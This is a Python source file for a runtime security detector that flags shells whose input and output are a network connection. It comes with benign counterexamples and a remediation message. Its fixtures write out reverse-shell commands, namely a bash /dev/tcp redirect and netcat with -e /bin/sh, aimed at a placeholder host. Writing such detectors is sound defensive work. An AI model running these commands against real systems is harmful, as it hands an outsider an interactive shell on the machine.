"""RUN-003: a shell whose input and output are a network connection.

Input and output must both be the socket: a script that only tries whether a port answers (`echo > /dev/tcp/…`) is not
meant. Shells that are fed through a relay's pipes are seen by their relay (RUN-002), not here.
"""

from __future__ import annotations

from periderm.engines.runtime import programs
from periderm.engines.runtime.judging import Context, Detector, Interest, Verdict, shell_interest
from periderm.engines.runtime.needs import INTERNET
from periderm.engines.runtime.process import Process
from periderm.engines.runtime.scene import HOST, connects, row, runs, scene
from periderm.model.detector import DetectorSpec, Example
from periderm.model.event import Event, EventFlag, EventKind
from periderm.model.severity import Maturity, Severity
from periderm.model.text import Text

_SOCKET = EventFlag.STDIO_SOCKET
_INPUT, _OUTPUT = 0b001, 0b110
_MOMENT = 5.0  # seconds
_INPUT_AND_OUTPUT = 2
_PASSED_ON = 3  # generations between the process that holds the socket and the shell (a terminal may lie between)


def _both_ways(process: Process) -> bool:
    return bool(process.peer and process.stdio & _INPUT and process.stdio & _OUTPUT)


def _judge(context: Context) -> Verdict | None:  # noqa: PLR0911 -- one return for each kind of row and answer
    process, event = context.process, context.event
    if process.runtime or not (programs.is_shell(context.command) or process.copied_shell):
        return None
    if event.kind is EventKind.DUP:
        own = _own(context)
        if own < _INPUT_AND_OUTPUT or not _both_ways(process):
            return None
        return _verdict(process.peer, process, Severity.CRITICAL if own > _INPUT_AND_OUTPUT else Severity.MEDIUM)
    if _both_ways(process) and event.kind is EventKind.EXEC and event.has(_SOCKET):
        return _verdict(process.peer, process, Severity.CRITICAL)
    if event.kind is not EventKind.EXEC:
        return None
    if event.has(_SOCKET) and process.connected and not process.peer:
        return _verdict(process.connected, process, Severity.HIGH)
    return _passed_on(context)


def _own(context: Context) -> int:
    """On how many of input, output and errors the shell itself put the socket. A script that talks to a server puts it on
    input for one command and on output for another (`printf … >&3; read x <&3`) and puts back what was there, unseen."""
    return context.distinct("stdio", str(context.event.arg0), _MOMENT)


def _passed_on(context: Context) -> Verdict | None:
    """An interpreter or a network tool above holds the socket and relays it to the shell."""
    for ancestor in context.ancestors[:_PASSED_ON]:
        name = programs.command(ancestor.exe, ancestor.argv).name
        tool = name in programs.NET_TOOLS
        if _both_ways(ancestor) and (tool or programs.interpreter(name)):
            return _verdict(ancestor.peer, ancestor, Severity.CRITICAL)
        if context.event.has(_SOCKET) and ancestor.connected and tool:
            return _verdict(ancestor.connected, ancestor, Severity.HIGH)
    return None


def _verdict(peer: str, holder: Process, severity: Severity) -> Verdict:
    return Verdict(object=peer, severity=severity, evidence={"peer": peer, "socket_held_by": holder.exe})


def _dup(process: int, descriptor: int, address: str = "203.0.113.9", port: int = 4444) -> Event:
    return row(EventKind.DUP, process, address, arg0=descriptor, port=port, family=10 if ":" in address else 2)


_BASH = runs(2, 1, "/usr/bin/bash", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")

DETECTOR = Detector(
    spec=DetectorSpec(
        id="RUN-003",
        title=Text("Connect a shell to the network", "将 shell 接到网络连接"),
        message=Text(
            "{process} in {subject} takes its input from {object} and answers there.",
            "{subject} 中的 {process} 从 {object} 读取输入并把输出发往该处。",
        ),
        severity=Severity.CRITICAL,
        maturity=Maturity.STABLE,
        remediation=Text(
            "Somebody types commands there now. Pause the container or kill the process, block the address, and look at "
            "what started it.",
            "此刻有人正在远程输入命令。请暂停容器或终止该进程，封锁该地址，并查明是什么启动了它。",
        ),
        techniques=("T1059.004",),
        behaviours=(3,),
        fires=(
            Example(scene(_BASH, _dup(2, 1), _dup(2, 2), _dup(2, 0)), "bash -i >& /dev/tcp/…"),
            Example(
                scene(
                    runs(2, 1, "/usr/bin/python3.11", "python3", "-c", "import socket, os, pty"),
                    *(_dup(2, n, "2001:db8::9") for n in range(3)),
                    runs(3, 2, "/usr/bin/dash", "/bin/sh", flags=EventFlag.TTY),
                ),
                "Python holds the socket and gives the shell a terminal",
            ),
            Example(
                scene(
                    runs(2, 1, "/usr/bin/nc.traditional", "nc", "-e", "/bin/sh", "203.0.113.9", "4444"),
                    connects(2, "203.0.113.9", 4444),
                    runs(2, 1, "/bin/busybox", "sh", flags=_SOCKET),
                ),
                "netcat becomes a shell (busybox), of which only the socket is seen",
            ),
            Example(
                scene(
                    runs(2, 1, "/usr/bin/perl", "perl", "-e", "…"),
                    *(_dup(2, n) for n in range(3)),
                    runs(2, 1, "/opt/x", "sh", "-i", flags=_SOCKET),
                ),
                "Perl becomes a renamed shell",
            ),
        ),
        quiet=(
            Example(
                scene(runs(2, 1, "/usr/bin/bash", "bash", "wait-for-it.sh", "db:5432"), _dup(2, 1, "10.0.0.5", 5432)),
                "a start script tries whether the database answers",
            ),
            Example(
                scene(
                    runs(2, 1, "/usr/bin/bash", "bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/80; printf x >&3; cat <&3"),
                    _dup(2, 1, "127.0.0.1", 80),
                    row(EventKind.FORK, 3, parent=2, exe="/usr/bin/bash"),
                    _dup(3, 0, "127.0.0.1", 80),
                    runs(3, 2, "/usr/bin/cat", "cat", flags=_SOCKET),
                ),
                "a health check without curl writes to a connection and reads from it",
            ),
            Example(
                scene(
                    runs(1, 0, "/usr/bin/node", "node", "server.js"),
                    runs(2, 1, "/usr/bin/dash", "sh", "-c", "ls", flags=_SOCKET),
                ),
                "Node gives its children Unix sockets as standard streams",
            ),
            Example(
                scene(
                    runs(20, 1, "/usr/sbin/sshd", "sshd: user", on=HOST),
                    runs(21, 20, "/usr/bin/bash", "bash", "-c", "uptime", on=HOST, flags=_SOCKET),
                ),
                "ssh without a terminal",
            ),
            Example(
                scene(
                    runs(1, 0, "/usr/sbin/fcgiwrap", "fcgiwrap"),
                    *(_dup(1, n, "10.0.0.7", 9000) for n in range(2)),
                    runs(2, 1, "/usr/bin/php-cgi8.2", "php-cgi", flags=_SOCKET),
                ),
                "a gateway hands a connection to an interpreter that is no shell",
            ),
        ),
    ),
    interests=(
        Interest(kinds=(EventKind.DUP,)),
        Interest(kinds=(EventKind.EXEC,), flags=_SOCKET),
        Interest(
            kinds=(EventKind.CONNECT, EventKind.ACCEPT),
            needs=(INTERNET,),
            exe=(rf"(^|/)({programs.names(programs.NET_TOOLS | programs.SHELLS | programs.MULTICALL)})$",),
        ),
        shell_interest(),
    ),
    judge=_judge,
    existing=True,
)
